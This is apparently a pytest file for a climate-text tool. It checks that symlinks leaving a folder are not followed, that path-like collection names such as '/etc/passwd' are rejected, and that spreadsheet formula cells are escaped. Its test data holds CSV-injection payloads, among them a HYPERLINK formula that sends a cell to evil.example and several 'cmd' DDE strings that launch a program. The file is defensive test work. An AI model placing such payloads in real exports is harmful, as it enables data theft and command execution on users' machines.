"""Where files lie and lead: links out of a folder, names that are paths, who may read, cells that are formulas."""

import csv
import io
import os
import stat

import pytest

from climassay.corpus.reading import find_files
from climassay.reporting import Table, as_csv
from climassay.reporting.tables import Column
from climassay.spreadsheets import safe_cell
from climassay.workspace import Workspace
from command_line import run_command

posix = pytest.mark.skipif(os.name != "posix", reason="rights and links of files are those of POSIX")


@posix
def test_links_that_lead_out_of_a_folder_are_not_followed(tmp_path):
    secret = tmp_path / "home" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("The password is swordfish.")
    folder = tmp_path / "given"
    (folder / "part").mkdir(parents=True)
    (folder / "part" / "seas.txt").write_text("The sea warms.")
    (folder / "inside.txt").symlink_to(folder / "part" / "seas.txt")
    (folder / "outside.txt").symlink_to(secret)
    (folder / "up.txt").symlink_to("../home/secret.txt")
    (folder / "home").symlink_to(secret.parent)
    assert find_files([folder]) == [folder / "inside.txt", folder / "part" / "seas.txt"]
    assert find_files([folder / "outside.txt"]) == [folder / "outside.txt"], "named by the user"
    (tmp_path / "shelf").symlink_to(folder)
    assert [file.name for file in find_files([tmp_path / "shelf"])] == ["inside.txt", "seas.txt"]


@posix
def test_a_new_workspace_is_for_its_owner_and_a_known_one_stays_as_it_is(tmp_path):
    def rights(folder):
        return stat.S_IMODE(folder.stat().st_mode)

    assert rights(Workspace.open(tmp_path / "new" / "workspace").root) == 0o700
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o775)
    assert rights(Workspace.open(shared).root) == 0o775


NAMES = ["../outside", "/etc/passwd", "a/b", "a\\b", "..", ".hidden", "a\nb", "a" * 300, ""]


@pytest.mark.parametrize("name", NAMES)
def test_the_name_of_a_collection_is_no_path(name, tmp_path, monkeypatch, capsys):
    (tmp_path / "seas.txt").write_text("The sea warms.")
    workspace = tmp_path / "deep" / "workspace"
    before = {file for file in tmp_path.rglob("*") if workspace not in (file, *file.parents)}
    for arguments in (("add", name, tmp_path / "seas.txt"), ("show", name), ("remove", name, "--yes")):
        code, _, err = run_command(monkeypatch, capsys, "corpus", *arguments, "--workspace", workspace)
        assert code == 2
        assert "cannot name a collection" in err
    after = {file for file in tmp_path.rglob("*") if workspace not in (file, *file.parents)}
    assert after - before <= {workspace.parent}


FORMULAS = [
    '=HYPERLINK("http://evil.example/"&A1,"open")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-A1",
    "+1-SUM(A1)",
]
PLAIN = [
    "-0.35",
    "+1.2",
    "−0.12",
    "-0.12 to 0.30",
    "-1.5e-3",
    "+3.1 [-2.0, 8.2]",
    "-",
    "",
    "text",
    "a = b",
    3,
    -0.5,
    None,
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_run_is_marked_as_text(formula):
    marked = "'" + formula.replace("\r", "\n")
    assert safe_cell(formula) == marked
    table = Table("Answers", [Column("id"), Column(formula)], [["1", formula]])
    heading, row = csv.reader(io.StringIO(as_csv(table), newline=""))
    assert heading[1] == row[1] == marked


@pytest.mark.parametrize("cell", PLAIN)
def test_numbers_intervals_and_words_stay_as_they_are(cell):
    assert safe_cell(cell) == cell


def test_no_text_begins_a_row_of_its_own():
    table = Table("Answers", [Column("id"), Column("text")], [["1", "harmless\r=1+1"], ["2", "x\r\n=1+1"]])
    rows = list(csv.reader(io.StringIO(as_csv(table), newline="")))
    assert rows[1:] == [["1", "harmless\n=1+1"], ["2", "x\n=1+1"]]


def test_csv_files_of_strangers_words_are_written_through_it():
    """Whoever writes CSV takes ``safe_cell`` or a form of it that reading takes off again."""
    from pathlib import Path

    import climassay

    root = Path(climassay.__file__).parent
    writers = {
        file for file in root.rglob("*.py") if "csv.writer(" in (text := file.read_text()) or "csv.DictWriter(" in text
    }
    assert len(writers) >= 5
    assert not [file for file in writers if "safe_cell(" not in file.read_text() and "_safe(" not in file.read_text()]
